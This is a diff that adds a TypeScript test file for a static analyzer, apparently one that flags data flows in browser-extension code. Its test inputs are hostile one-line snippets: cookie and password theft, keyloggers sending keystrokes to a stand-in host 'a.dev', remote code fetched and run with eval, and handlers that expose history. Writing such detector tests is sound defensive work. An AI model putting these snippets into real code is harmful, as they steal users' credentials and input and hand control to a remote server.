@@ -1,0 +1,96 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import { factsOf } from './facts-of.ts';
+
+function flows(source: string): string[] {
+  return factsOf(source).flows.map(
+    ({ source: from, sink, direction }) => `${from.kind} > ${sink.kind} (${direction})`,
+  );
+}
+
+describe('flows', () => {
+  const cases: readonly [string, string][] = [
+    [
+      "chrome.cookies.getAll({}, (c) => fetch('https://a.dev', { body: JSON.stringify(c) }))",
+      'cookies > network (theft)',
+    ],
+    [
+      "chrome.cookies.getAll({}).then((c) => send({ c })); function send(d) { navigator.sendBeacon('https://a.dev', btoa(d)) }",
+      'cookies > network (theft)',
+    ],
+    [
+      "let buffer = ''; document.addEventListener('keydown', (e) => { buffer += e.key }); setInterval(() => fetch('https://a.dev/?k=' + buffer), 9)",
+      'key-input > network (theft)',
+    ],
+    [
+      "const keys = []; document.onkeyup = (e) => keys.push(e.key); fetch('https://a.dev', { body: keys.join() })",
+      'key-input > network (theft)',
+    ],
+    [
+      "form.addEventListener('submit', () => { const p = document.querySelector('[type=password]').value; new Image().src = `https://a.dev/${p}` })",
+      'form-input > network (theft)',
+    ],
+    [
+      "fetch('https://a.dev').then((r) => r.text()).then((code) => eval(code))",
+      'network-response > code-execution (remote-control)',
+    ],
+    [
+      "async function f() { const r = await fetch('https://a.dev'); const { code } = await r.json(); new Function(code)() }",
+      'network-response > code-execution (remote-control)',
+    ],
+    [
+      'const x = new XMLHttpRequest(); x.onload = () => { box.innerHTML = x.responseText }',
+      'network-response > dom-html (remote-control)',
+    ],
+    [
+      "const load = () => new Promise((done) => $.get('https://a.dev', (d) => done(d))); load().then((d) => eval(d))",
+      'network-response > code-execution (remote-control)',
+    ],
+    [
+      "window.addEventListener('message', (e) => chrome.storage.local.set(e.data))",
+      'page-message > extension-storage (exposure)',
+    ],
+    [
+      'chrome.runtime.onMessageExternal.addListener((m, s, reply) => { chrome.history.search({}, (h) => reply(h)) })',
+      'history > external-response (exposure)',
+    ],
+    [
+      'chrome.runtime.onConnectExternal.addListener((p) => { p.onMessage.addListener((m) => chrome.downloads.download({ url: m.url })) })',
+      'external-message > download (exposure)',
+    ],
+  ];
+  for (const [source, expected] of cases) {
+    it(`finds ${expected} in ${source}`, () =>
+      assert.ok(flows(source).includes(expected), flows(source).join()));
+  }
+
+  it('finds none where the data does not arrive', () => {
+    for (const source of [
+      "chrome.cookies.getAll({}, (c) => show(c)); fetch('https://a.dev', { body: other })",
+      "chrome.tabs.query({}, (t) => chrome.tabs.update(t[0].id, { url: 'https://a.dev' }))",
+      "fetch('https://a.dev').then((r) => { if (r.ok) eval('1') })",
+      "const data = { a: document.cookie, b: 1 }; fetch('https://a.dev', { body: data.b })",
+    ]) {
+      assert.deepEqual(flows(source), [], source);
+    }
+  });
+
+  it('carry steps from source to sink and the receiving host', () => {
+    const [flow] = factsOf(
+      "const c = document.cookie;\nconst d = c;\nfetch('https://in.a.dev/', { body: d });",
+    ).flows;
+    assert.equal(flow?.host, 'in.a.dev');
+    assert.equal(flow.confidence, 'high');
+    assert.deepEqual(
+      flow.steps.map(({ line }) => line),
+      [1, 1, 2, 3],
+    );
+  });
+
+  it('end on data that goes in circles', () => {
+    assert.deepEqual(
+      flows('let a = b; let b = a; function f(x) { return f(x) } fetch(f(a) + b)'),
+      [],
+    );
+  });
+});
